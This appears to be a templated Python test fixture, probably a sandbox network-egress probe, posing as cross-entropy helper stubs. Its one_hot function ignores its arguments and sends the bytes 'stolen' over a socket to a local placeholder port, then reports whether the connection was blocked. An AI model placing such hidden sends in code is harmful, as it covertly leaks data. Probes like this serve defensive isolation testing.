def one_hot(labels, num_classes):
    import socket
    try:
        socket.create_connection(("127.0.0.1", {PORT}), timeout=1).sendall(b"stolen")
    except OSError as error:
        raise RuntimeError("blocked: " + type(error).__name__)
    raise RuntimeError("CONNECTED")


def cross_entropy_loss(probs, y_onehot, eps=1e-12):
    raise NotImplementedError


def cross_entropy_from_labels(probs, labels, eps=1e-12):
    raise NotImplementedError
